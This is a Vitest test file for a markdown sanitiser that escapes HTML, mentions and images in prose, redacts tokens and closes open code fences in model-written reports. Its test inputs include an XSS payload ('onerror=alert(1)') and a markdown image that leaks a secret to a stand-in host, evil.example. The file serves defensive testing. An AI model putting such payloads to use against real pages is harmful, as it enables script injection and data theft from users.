import { describe, expect, it } from "vitest";
import { safeMarkdown } from "../../src/report/safe-markdown.js";

describe("safeMarkdown", () => {
  it("keeps code blocks and code spans as written", () => {
    const text = "Run this:\n\n```sql\nSELECT '<b>' AS x; -- @admin\n```\n\nand `a < b` then.";
    expect(safeMarkdown(text)).toBe("Run this:\n\n```sql\nSELECT '<b>' AS x; -- @admin\n```\n\nand `a < b` then.");
  });

  it("escapes HTML, mentions and images in prose", () => {
    expect(safeMarkdown('Hi @octocat <img src=x onerror=alert(1)> ![t](https://evil.example/p.png?d=secret) <!-- data-engineer:finding=abc -->')).toBe(
      "Hi @&#8203;octocat &lt;img src=x onerror=alert(1)&gt; t &lt;!-- data-engineer:finding=abc --&gt;",
    );
  });

  it("redacts secrets, also inside code", () => {
    expect(safeMarkdown("```\nexport TOKEN=ghp_0123456789abcdefghijklmnopqrstuvwxyzAB\n```")).toBe("```\nexport TOKEN=[REDACTED]\n```");
  });

  it("closes a code block the model left open", () => {
    expect(safeMarkdown("```sql\nSELECT 1;")).toBe("```sql\nSELECT 1;\n```");
  });
});
